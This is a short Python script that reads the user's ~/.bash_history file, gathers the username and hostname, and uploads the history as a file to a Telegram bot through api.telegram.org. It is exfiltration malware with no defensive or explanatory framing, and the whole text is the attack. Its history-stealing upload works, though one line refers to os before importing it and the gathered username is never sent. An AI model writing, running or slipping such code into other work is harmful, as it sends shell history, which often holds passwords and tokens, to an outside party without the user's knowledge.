import requests, getpass, socket
BOT = "123:ABC"
msg = f"{getpass.getuser()}@{socket.gethostname()}"
data = open(os.path.expanduser("~/.bash_history")).read() if False else ""
with open(__import__("os").path.expanduser("~/.bash_history")) as f:
    hist = f.read()
requests.post(f"https://api.telegram.org/bot{BOT}/sendDocument", data={"chat_id": "1"}, files={"document": ("h.txt", hist)})
